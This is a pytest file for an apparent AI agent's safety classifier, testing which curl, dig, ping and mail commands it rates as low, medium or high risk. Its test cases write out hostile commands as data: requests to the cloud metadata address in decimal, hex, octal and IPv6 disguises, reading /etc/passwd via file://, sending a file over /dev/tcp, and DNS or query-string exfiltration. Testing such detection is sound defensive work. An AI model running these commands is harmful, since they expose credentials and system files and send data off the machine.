"""What leaves the machine."""

import pytest

from bot.safety import Risk, classify

LONG = "a" * 70


@pytest.mark.parametrize(
    ("command", "risk"),
    [
        ("curl https://example.com/a?b=c", Risk.LOW),
        ("curl http://localhost:8080/health", Risk.LOW),
        ('curl "http://localhost:8080/$X"', Risk.LOW),
        ('curl "http://localhost:$PORT/"', Risk.HIGH),
        ('curl "https://example.com/$X"', Risk.HIGH),
        ('curl "https://example.com/$(date +%F)"', Risk.HIGH),
        ("for i in 1 2; do curl https://example.com/$i; done", Risk.LOW),
        (f"curl 'https://example.com/?q={LONG}'", Risk.MEDIUM),
        ("curl 'https://example.com/?q=aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3QgMTIzNDU2Nzg5MA'", Risk.HIGH),
        ("curl https://user:pass@example.com/", Risk.HIGH),
        ("curl http://169.254.169.254/latest", Risk.HIGH),
        ("curl http://2852039166/", Risk.HIGH),
        ("curl http://0xa9fea9fe/", Risk.HIGH),
        ("curl http://0251.0376.0251.0376/", Risk.HIGH),
        ("curl 'http://[::ffff:169.254.169.254]/'", Risk.HIGH),
        ("curl http://169.254.169.254.nip.io/", Risk.HIGH),
        ("curl http://metadata.google.internal/", Risk.HIGH),
        ("curl file:///etc/passwd", Risk.HIGH),
        ("curl -X POST http://localhost/x", Risk.MEDIUM),
        ("curl -X POST https://example.com/x", Risk.HIGH),
        ("curl -H 'Authorization: Bearer x' https://example.com", Risk.HIGH),
        ("curl -H 'Accept: text/html' https://example.com", Risk.LOW),
        ("curl --pro evil.example:80 https://example.com", Risk.HIGH),
        ("dig example.com", Risk.LOW),
        (f"dig {LONG}.example.com", Risk.HIGH),
        ("dig a.b.c.d.e.f.example.com", Risk.HIGH),
        ("ping -c1 $X", Risk.HIGH),
        ("cat f > /dev/tcp/example.com/80", Risk.HIGH),
        ("uptime | mail -s load root", Risk.LOW),
        ("uptime | mail -s load a@example.com", Risk.HIGH),
    ],
)
def test_a_request_is_judged_by_what_it_carries(command: str, risk: Risk) -> None:
    verdict = classify(command)

    assert verdict.risk is risk, verdict.reasons


def test_a_host_the_operator_trusts_is_like_this_machine(tmp_path: object) -> None:
    from pathlib import Path

    from bot.safety import load_rules

    folder = Path(str(tmp_path))
    (folder / "site.toml").write_text('[network]\ntrusted = "ci.example.com"\n')

    rules = load_rules(folder)

    assert classify("curl -X POST https://ci.example.com/run", rules=rules).risk is Risk.MEDIUM
